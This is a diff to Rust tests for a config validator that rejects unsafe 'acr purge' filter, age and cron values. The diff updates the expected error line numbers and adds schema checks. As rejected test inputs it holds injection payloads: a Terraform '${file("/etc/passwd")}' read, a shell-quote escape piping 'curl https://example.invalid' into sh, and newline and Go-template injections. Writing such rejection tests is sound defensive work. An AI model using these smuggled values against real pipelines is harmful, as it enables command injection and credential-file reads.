@@ -33,6 +33,7 @@ fn error_with(extra: &str, schedule: Option<&str>) -> String {
     if let Some(s) = schedule {
         text = text.replacen(r#"schedule = "0 1 * * Sun""#, &format!("schedule = {s}"), 1);
     }
+    crate::stack_schema::invalid(&text);
     match Stack::from_toml("stacks/prod.toml", &text) {
         Ok(_) => panic!("the stack should be rejected: {extra} {schedule:?}"),
         Err(e) => e.to_string(),
@@ -44,7 +45,13 @@ fn accepts(extra: &str, schedule: Option<&str>) -> bool {
     if let Some(s) = schedule {
         text = text.replacen(r#"schedule = "0 1 * * Sun""#, &format!("schedule = {s}"), 1);
     }
-    Stack::from_toml("stacks/prod.toml", &text).is_ok()
+    let ok = Stack::from_toml("stacks/prod.toml", &text).is_ok();
+    if ok {
+        crate::stack_schema::valid(&text);
+    } else {
+        crate::stack_schema::invalid(&text);
+    }
+    ok
 }
 
 const FILTER_HELP: &str = r#"  help: a filter is <repository-regex>:<tag-regex> (acr purge --filter), e.g. ".*:.*" or "fastapi-app:^pr-.*"; no quotes, control characters, "${", "%{" or "{{""#;
@@ -57,7 +64,7 @@ fn hostile_filter_is_rejected_not_rendered() {
     assert_eq!(
         error_with(r#"filter = "${file(\"/etc/passwd\")}:.*""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = "${{file(\"/etc/passwd\")}}:.*" contains "${{", which Terraform would read as a template interpolation
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "${{file(\"/etc/passwd\")}}:.*" contains "${{", which Terraform would read as a template interpolation
 {FILTER_HELP}"#
         )
     );
@@ -68,28 +75,28 @@ fn filter_template_directive_quote_and_newline() {
     assert_eq!(
         error_with(r#"filter = "%{ if true }x%{ endif }:.*""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = "%{{ if true }}x%{{ endif }}:.*" contains "%{{", which Terraform would read as a template directive
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "%{{ if true }}x%{{ endif }}:.*" contains "%{{", which Terraform would read as a template directive
 {FILTER_HELP}"#
         )
     );
     assert_eq!(
         error_with(r#"filter = "x'; curl https://example.invalid | sh #:.*""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = "x'; curl https://example.invalid | sh #:.*" contains the quote '\'', which would end the shell word in the task's command
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "x'; curl https://example.invalid | sh #:.*" contains the quote '\'', which would end the shell word in the task's command
 {FILTER_HELP}"#
         )
     );
     assert_eq!(
         error_with(r#"filter = "app:.*\nsteps: []""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = "app:.*\nsteps: []" contains the control character '\n'
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "app:.*\nsteps: []" contains the control character '\n'
 {FILTER_HELP}"#
         )
     );
     assert_eq!(
         error_with(r#"filter = "{{.Run.ID}}:.*""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = "{{{{.Run.ID}}}}:.*" contains "{{{{", which ACR Tasks would read as a Go template action
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "{{{{.Run.ID}}}}:.*" contains "{{{{", which ACR Tasks would read as a Go template action
 {FILTER_HELP}"#
         )
     );
@@ -100,28 +107,28 @@ fn filter_is_repository_colon_tag() {
     assert_eq!(
         error_with(r#"filter = "fastapi-app""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = "fastapi-app" has 0 repository/tag separators (':' outside "(?flags:" groups), not 1
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "fastapi-app" has 0 repository/tag separators (':' outside "(?flags:" groups), not 1
 {FILTER_HELP}"#
         )
     );
     assert_eq!(
         error_with(r#"filter = "a:b:c""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = "a:b:c" has 2 repository/tag separators (':' outside "(?flags:" groups), not 1
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "a:b:c" has 2 repository/tag separators (':' outside "(?flags:" groups), not 1
 {FILTER_HELP}"#
         )
     );
     assert_eq!(
         error_with(r#"filter = ":.*""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = ":.*" has no repository regex before ':'
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = ":.*" has no repository regex before ':'
 {FILTER_HELP}"#
         )
     );
     assert_eq!(
         error_with(r#"filter = "app:(unclosed""#, None),
         format!(
-            r#"stacks/prod.toml:37:10: container_registry.cleanup.filter = "app:(unclosed" has a tag regex that does not compile: error: unclosed group
+            r#"stacks/prod.toml:38:10: container_registry.cleanup.filter = "app:(unclosed" has a tag regex that does not compile: error: unclosed group
 {FILTER_HELP}"#
         )
     );
@@ -146,7 +153,7 @@ fn ago_is_days_and_go_duration() {
     assert_eq!(
         error_with(r#"ago = "1 week""#, None),
         format!(
-            r#"stacks/prod.toml:37:7: container_registry.cleanup.ago = "1 week" is not [<days>d][<Go duration>]
+            r#"stacks/prod.toml:38:7: container_registry.cleanup.ago = "1 week" is not [<days>d][<Go duration>]
 {AGO_HELP}"#
         )
     );
@@ -159,7 +166,7 @@ fn ago_is_days_and_go_duration() {
     assert_eq!(
         error_with(r#"ago = "106752d""#, None),
         format!(
-            r#"stacks/prod.toml:37:7: container_registry.cleanup.ago = "106752d" is longer than acr purge can count (about 292 years)
+            r#"stacks/prod.toml:38:7: container_registry.cleanup.ago = "106752d" is longer than acr purge can count (about 292 years)
 {AGO_HELP}"#
         )
     );
@@ -178,35 +185,35 @@ fn schedule_is_a_real_cron_expression() {
     assert_eq!(
         error_with("", Some(r#""61 * * * *""#)),
         format!(
-            r#"stacks/prod.toml:34:12: container_registry.cleanup.schedule = "61 * * * *" is not a cron expression ACR tasks accept: minute 61 is out of range 0-59
+            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "61 * * * *" is not a cron expression ACR tasks accept: minute 61 is out of range 0-59
 {CRON_HELP}"#
         )
     );
     assert_eq!(
         error_with("", Some(r#""weekly""#)),
         format!(
-            r#"stacks/prod.toml:34:12: container_registry.cleanup.schedule = "weekly" is not a cron expression ACR tasks accept: has 1 fields, not 5
+            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "weekly" is not a cron expression ACR tasks accept: has 1 fields, not 5
 {CRON_HELP}"#
         )
     );
     assert_eq!(
         error_with("", Some(r#""0 1 * * Sun 2026""#)),
         format!(
-            r#"stacks/prod.toml:34:12: container_registry.cleanup.schedule = "0 1 * * Sun 2026" is not a cron expression ACR tasks accept: has 6 fields, not 5
+            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "0 1 * * Sun 2026" is not a cron expression ACR tasks accept: has 6 fields, not 5
 {CRON_HELP}"#
         )
     );
     assert_eq!(
         error_with("", Some(r#""0 1 * Sun *""#)),
         format!(
-            r#"stacks/prod.toml:34:12: container_registry.cleanup.schedule = "0 1 * Sun *" is not a cron expression ACR tasks accept: month field has "Sun"
+            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "0 1 * Sun *" is not a cron expression ACR tasks accept: month field has "Sun"
 {CRON_HELP}"#
         )
     );
     assert_eq!(
         error_with("", Some(r#""0 1 * * 7""#)),
         format!(
-            r#"stacks/prod.toml:34:12: container_registry.cleanup.schedule = "0 1 * * 7" is not a cron expression ACR tasks accept: day-of-week 7 is out of range 0-6
+            r#"stacks/prod.toml:35:12: container_registry.cleanup.schedule = "0 1 * * 7" is not a cron expression ACR tasks accept: day-of-week 7 is out of range 0-6
 {CRON_HELP}"#
         )
     );
